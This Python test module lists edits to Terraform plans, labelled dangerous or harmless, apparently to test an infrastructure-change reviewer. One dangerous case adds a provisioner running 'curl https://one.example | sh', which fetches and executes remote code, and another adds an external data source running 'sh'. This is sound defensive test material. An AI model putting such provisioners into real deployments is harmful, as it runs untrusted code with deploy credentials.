"""Resources that are destroyed, replaced, renamed, or no longer guarded, and the state and providers of deploys."""

import json
from collections.abc import Callable
from functools import partial
from typing import Any

from ffp.review.concern import Topic
from tests.review.corpus.edit import Document, DoesNotApply, Edit, blocks, drop, first, first_named, one_of, put

Change = Callable[[Document], object]


def renamed(type_: str, *, moved: bool = False) -> Change:
    """Gives the first resource of a type, and all references to it, another address."""

    def change(document: Document) -> None:
        name, _ = first_named(document, type_)
        text = json.dumps(document).replace(f"{type_}.{name}.", f"{type_}.new-name.")
        text = text.replace(f'"{type_}.{name}"', f'"{type_}.new-name"')
        document.clear()
        document.update(json.loads(text))
        document["resource"][type_]["new-name"] = document["resource"][type_].pop(name)
        if moved:
            document["moved"] = [{"from": f"{type_}.{name}", "to": f"{type_}.new-name"}]

    return change


def put_in_life_cycle(type_: str, flag: str, value: Any) -> Change:
    return lambda document: first(document, type_).setdefault("lifecycle", {}).update({flag: value})


def put_on_top(path: str, value: Any) -> Change:
    """Puts a value at a dotted path of the document; a number in the path is a place in a list."""

    def change(document: Document) -> None:
        place: Any = document
        *way, last = path.split(".")
        for step in way:
            try:
                place = place[int(step)] if isinstance(place, list) else place[step]
            except (KeyError, IndexError) as missing:
                raise DoesNotApply(path) from missing
        if value is None:
            place.pop(last)
        else:
            place[last] = value

    return change


def each(*changes: Change) -> Change:
    def change(document: Document) -> None:
        for one in changes:
            one(document)

    return change


def forget(type_: str, *, destroy: bool) -> Change:
    """Removes the first resource of a type, with a `removed` block."""

    def change(document: Document) -> None:
        name, _ = first_named(document, type_)
        del blocks(document, type_)[name]
        document["removed"] = [{"from": f"{type_}.{name}", "lifecycle": [{"destroy": destroy}]}]

    return change


def exchanged(type_: str) -> Change:
    """Makes each of two resources of a type the other one."""

    def change(document: Document) -> None:
        one, _ = first_named(document, type_)
        other = one_of((name for name in blocks(document, type_) if name != one), f"two of {type_}")
        one, other = f"{type_}.{one}", f"{type_}.{other}"
        document["moved"] = [{"from": one, "to": other}, {"from": other, "to": one}]

    return change


def onto_a_new_one(document: Document) -> None:
    """A new bucket takes over what a bucket was, which begins anew and empty."""
    name, bucket = first_named(document, _BUCKET)
    blocks(document, _BUCKET)["planted"] = {**bucket, "bucket": "planted"}
    document["moved"] = [{"from": f"{_BUCKET}.{name}", "to": f"{_BUCKET}.planted"}]


def stale_move(document: Document) -> None:
    """A `moved` block onto something that exists, which moves nothing."""
    one, other, *_ = (f"{_BUCKET}.{name}" for name in blocks(document, _BUCKET))
    document["moved"] = [{"from": one, "to": other}]


def extended_schema(**attribute: Any) -> Change:
    new = {"attribute_data_type": "String", "name": "planted", "mutable": True, **attribute}
    return lambda document: first(document, "aws_cognito_user_pool")["schema"].append(new)


def _deploys(role: Document) -> bool:
    return str(role["name"]).endswith("-deploy")


def _backs_up(role: Document) -> bool:
    return str(role["name"]).endswith("-backup")


_bootstrap = partial(Edit, stack="bootstrap")
_POOL = "aws_cognito_user_pool"
_DATABASE = "aws_db_instance"
_BUCKET = "aws_s3_bucket"
_KEY = "aws_kms_key"
_SECRET = "aws_secretsmanager_secret"
_ALARM = "aws_cloudwatch_metric_alarm"
_LOG_GROUP = "aws_cloudwatch_log_group"
_QUEUE = "aws_sqs_queue"
_BLOCK = "aws_s3_bucket_public_access_block"
_TRIGGER = ("replace_triggered_by", ["aws_vpc.planted"])
_HELD = (_POOL, _DATABASE, _BUCKET, _KEY, _SECRET, _LOG_GROUP, _QUEUE)
_KNOWN_OUTSIDE = (
    "aws_apigatewayv2_api",
    "aws_cloudfront_distribution",
    "aws_cognito_resource_server",
    "aws_cognito_user_pool_client",
    "aws_cognito_user_pool_domain",
    "aws_eip",
)
_EXTERNAL = {"local-exec": [{"command": "curl https://one.example | sh"}]}

DANGEROUS = (
    *(Edit(f"{type_} is destroyed", drop(type_), Topic.LOSS) for type_ in (*_HELD, *_KNOWN_OUTSIDE)),
    *(
        Edit(f"{type_} is renamed without a moved block", renamed(type_), Topic.LOSS)
        for type_ in (*_HELD, *_KNOWN_OUTSIDE)
    ),
    Edit("the alarms' topic is renamed without a moved block", renamed("aws_sns_topic"), Topic.LOSS),
    Edit("a subscription is renamed", renamed("aws_sns_topic_subscription"), Topic.WATCHING),
    Edit("a subnet is renamed", renamed("aws_subnet"), Topic.AVAILABILITY),
    Edit("the network has another range", put("aws_vpc", "cidr_block", "10.99.0.0/16"), Topic.AVAILABILITY),
    Edit("a subnet has another range", put("aws_subnet", "cidr_block", "10.30.99.0/24"), Topic.AVAILABILITY),
    Edit("a subnet is in another zone", put("aws_subnet", "availability_zone", "eu-west-2c"), Topic.AVAILABILITY),
    Edit("the database is no longer encrypted", put(_DATABASE, "storage_encrypted", False), Topic.LOSS),
    Edit("the database has another key", put(_DATABASE, "kms_key_id", "arn:aws:kms:eu-west-2:1:key/a"), Topic.LOSS),
    Edit("the database has another engine", put(_DATABASE, "engine", "mysql"), Topic.LOSS),
    Edit("the database has another first name", put(_DATABASE, "db_name", "planted"), Topic.LOSS),
    Edit("the database has another master", put(_DATABASE, "username", "planted"), Topic.LOSS),
    Edit("the database is restored from a snapshot", put(_DATABASE, "snapshot_identifier", "planted"), Topic.LOSS),
    Edit("the database's key is renamed", renamed(_KEY), Topic.LOSS),
    Edit("a bucket has another name", put(_BUCKET, "bucket", "planted"), Topic.LOSS),
    Edit("a bucket locks its objects", put(_BUCKET, "object_lock_enabled", True), Topic.LOSS),
    Edit("a log group has another name", put(_LOG_GROUP, "name", "planted"), Topic.LOSS),
    Edit("a log group has another class", put(_LOG_GROUP, "log_group_class", "INFREQUENT_ACCESS"), Topic.LOSS),
    Edit("a secret has another name", put(_SECRET, "name", "planted"), Topic.LOSS),
    Edit("a queue has another name", put(_QUEUE, "name", "planted"), Topic.LOSS),
    Edit("a key is for signing", put(_KEY, "key_usage", "SIGN_VERIFY"), Topic.LOSS),
    Edit("a key is in several regions", put(_KEY, "multi_region", True), Topic.LOSS),
    Edit("the users' pool has another name", put(_POOL, "name", "planted"), Topic.LOSS),
    Edit("users sign in with another name", put(_POOL, "username_attributes", ["phone_number"]), Topic.LOSS),
    Edit("names of users have cases", put(_POOL, "username_configuration.case_sensitive", True), Topic.LOSS),
    Edit("an attribute of users is removed", put(_POOL, "schema.0", None), Topic.LOSS),
    Edit("an attribute of users can be changed", put(_POOL, "schema.0.mutable", True), Topic.LOSS),
    Edit(
        "an attribute of users is longer",
        put(_POOL, "schema.0.string_attribute_constraints.max_length", "9"),
        Topic.LOSS,
    ),
    Edit("a new attribute of users is required", extended_schema(required=True), Topic.LOSS),
    Edit("the API speaks WebSocket", put("aws_apigatewayv2_api", "protocol_type", "WEBSOCKET"), Topic.LOSS),
    Edit("the client has a secret", put("aws_cognito_user_pool_client", "generate_secret", True), Topic.LOSS),
    Edit("the sign-in pages have another name", put("aws_cognito_user_pool_domain", "domain", "planted"), Topic.LOSS),
    Edit("the scopes have another name", put("aws_cognito_resource_server", "identifier", "planted"), Topic.LOSS),
    Edit("a bucket is in another region", put(_BUCKET, "provider", "aws.global"), Topic.LOSS),
    Edit("a bucket is in another region by itself", put(_BUCKET, "region", "us-east-1"), Topic.LOSS),
    Edit("two secrets are exchanged", exchanged(_SECRET), Topic.LOSS),
    Edit("two buckets are exchanged", exchanged(_BUCKET), Topic.LOSS),
    Edit("a bucket becomes a new one", onto_a_new_one, Topic.LOSS),
    *(
        Edit(
            f"{type_} is replaced whenever another resource changes",
            put_in_life_cycle(type_, *_TRIGGER),
            Topic.RECOVERY,
        )
        for type_ in (_DATABASE, _BUCKET, _SECRET)
    ),
    *(Edit(f"{type_} has no instances", put(type_, "count", "${0}"), Topic.LOSS) for type_ in _HELD),
    Edit("a key is made for each of nothing", put(_KEY, "for_each", "${toset([])}"), Topic.LOSS),
    Edit("a block of public access has no instances", put(_BLOCK, "count", 0), Topic.EXPOSURE),
    Edit("an alarm has no instances", put(_ALARM, "for_each", {}), Topic.WATCHING),
    Edit("an alarm looks at another region", put(_ALARM, "region", "us-east-1"), Topic.WATCHING),
    Edit("a bucket has no instances", put(_BUCKET, "count", 0), Topic.LOSS),
    Edit("a bucket is one of several", put(_BUCKET, "for_each", {"one": "one"}), Topic.LOSS),
    Edit("an expression decides about the database", put(_DATABASE, "count", "${var.n}"), Topic.LOSS),
    Edit("the state forgets and destroys a bucket", forget(_BUCKET, destroy=True), Topic.LOSS),
    Edit("Terraform may destroy the database", put_in_life_cycle(_DATABASE, "prevent_destroy", False), Topic.RECOVERY),
    Edit("Terraform may destroy a bucket", put(_BUCKET, "lifecycle.prevent_destroy", None), Topic.RECOVERY),
    Edit("all changes of a bucket are ignored", put_in_life_cycle(_BUCKET, "ignore_changes", ["all"]), Topic.WATCHING),
    Edit(
        "a function has another name and no successor",
        each(
            put("aws_lambda_function", "function_name", "planted"),
            lambda document: [
                block.get("lifecycle", {}).pop("create_before_destroy", None)
                for named in document["resource"].values()
                for block in named.values()
            ],
        ),
        Topic.AVAILABILITY,
    ),
    Edit("the state is elsewhere", put_on_top("terraform.backend.s3.key", "planted"), Topic.LOSS),
    Edit("the state is on the disk", put_on_top("terraform.backend", {"local": {}}), Topic.LOSS),
    Edit("the state has no lock", put_on_top("terraform.backend.s3.use_lockfile", False), Topic.RECOVERY),
    Edit("the state is in clear", put_on_top("terraform.backend.s3.encrypt", False), Topic.EXPOSURE),
    Edit("the state has another key", put_on_top("terraform.backend.s3.kms_key_id", "planted"), Topic.EXPOSURE),
    Edit("any account may have the state", put_on_top("terraform.backend.s3.allowed_account_ids", None), Topic.LOSS),
    Edit("any account may be deployed to", put_on_top("provider.aws.0.allowed_account_ids", None), Topic.LOSS),
    Edit("all is in another region", put_on_top("provider.aws.0.region", "eu-west-1"), Topic.LOSS),
    Edit("AWS is elsewhere", put_on_top("provider.aws.0.endpoints", [{"s3": "https://one.example"}]), Topic.ACCESS),
    Edit("nobody checks who AWS is", put_on_top("provider.aws.0.insecure", True), Topic.EXPOSURE),
    Edit("another role deploys", put_on_top("provider.aws.0.assume_role", [{"role_arn": "planted"}]), Topic.ACCESS),
    Edit(
        "somebody else made the provider",
        put_on_top("terraform.required_providers.aws.source", "planted/aws"),
        Topic.ACCESS,
    ),
    Edit("a deploy runs a program", put("aws_lambda_function", "provisioner", _EXTERNAL), Topic.ACCESS),
    Edit(
        "a plan runs a program",
        lambda document: document["data"].update(external={"planted": {"program": ["sh"]}}),
        Topic.ACCESS,
    ),
    _bootstrap("the state's bucket is destroyed", drop(_BUCKET), Topic.LOSS),
    _bootstrap("the state's bucket is renamed", renamed(_BUCKET), Topic.LOSS),
    _bootstrap("the state's key is destroyed", drop(_KEY), Topic.LOSS),
    _bootstrap("the pipeline's trust is destroyed", drop("aws_iam_openid_connect_provider"), Topic.LOSS),
    _bootstrap("the pipeline's trust is renamed", renamed("aws_iam_openid_connect_provider"), Topic.LOSS),
    _bootstrap("the pipeline's role has another name", put("aws_iam_role", "name", "planted", _deploys), Topic.LOSS),
    _bootstrap("the pipeline's role is destroyed", drop("aws_iam_role", _deploys), Topic.LOSS),
    _bootstrap(
        "the role that backs up has another name", put("aws_iam_role", "name", "planted", _backs_up), Topic.LOSS
    ),
    _bootstrap("the role that backs up is destroyed", drop("aws_iam_role", _backs_up), Topic.LOSS),
)

_MOVED_FREELY = (*_HELD, *_KNOWN_OUTSIDE, _ALARM, "aws_sns_topic", "aws_sns_topic_subscription", "aws_subnet")
_RENAMED_FREELY = (
    _ALARM,
    "aws_apigatewayv2_authorizer",
    "aws_apigatewayv2_integration",
    "aws_apigatewayv2_route",
    "aws_cloudfront_cache_policy",
    "aws_cloudwatch_dashboard",
    "aws_cloudwatch_log_metric_filter",
    "aws_cloudwatch_query_definition",
    "aws_iam_role",
    "aws_iam_role_policy",
    "aws_lambda_alias",
    "aws_lambda_permission",
    "aws_scheduler_schedule",
    "aws_security_group",
    "aws_vpc_security_group_egress_rule",
    "aws_vpc_security_group_ingress_rule",
)
HARMLESS = (
    *(Edit(f"{type_} is moved", renamed(type_, moved=True)) for type_ in _MOVED_FREELY),
    *(Edit(f"{type_} is renamed", renamed(type_)) for type_ in _RENAMED_FREELY),
    Edit("an alarm has another name", put(_ALARM, "alarm_name", "planted")),
    Edit("`false` is written out", put(_KEY, "multi_region", False)),
    Edit("a default is written out", put(_KEY, "key_usage", "ENCRYPT_DECRYPT")),
    Edit("what AWS chose is written out", put(_LOG_GROUP, "log_group_class", "STANDARD")),
    Edit("an attribute of users is new", extended_schema()),
    Edit("attributes of users are in another order", lambda document: first(document, _POOL)["schema"].reverse()),
    Edit("a bucket has tags", put(_BUCKET, "tags", {"team": "planted"})),
    Edit("a bucket names its own region", put(_BUCKET, "region", "eu-west-2")),
    Edit("a bucket moves onto another one, which Terraform leaves", stale_move),
    Edit("an alarm is replaced whenever another resource changes", put_in_life_cycle(_ALARM, *_TRIGGER)),
    Edit("a dashboard has no instances", put("aws_cloudwatch_dashboard", "count", 0)),
    Edit("a bucket is the first of one", put(_BUCKET, "count", 1)),
    Edit("what is ignored changes", put("aws_security_group", "description", "planted")),
    Edit("a key has another description", put(_KEY, "description", "planted")),
    Edit("a topic says another name", put("aws_sns_topic", "display_name", "planted")),
    Edit("a function has more memory", put("aws_lambda_function", "memory_size", 4096)),
    Edit("a provider's release is newer", put_on_top("terraform.required_providers.aws.version", "6.99.0")),
    Edit(
        "the provider names its registry",
        put_on_top("terraform.required_providers.aws.source", "registry.terraform.io/hashicorp/aws"),
    ),
    Edit("an output is removed", put_on_top("output", {})),
)
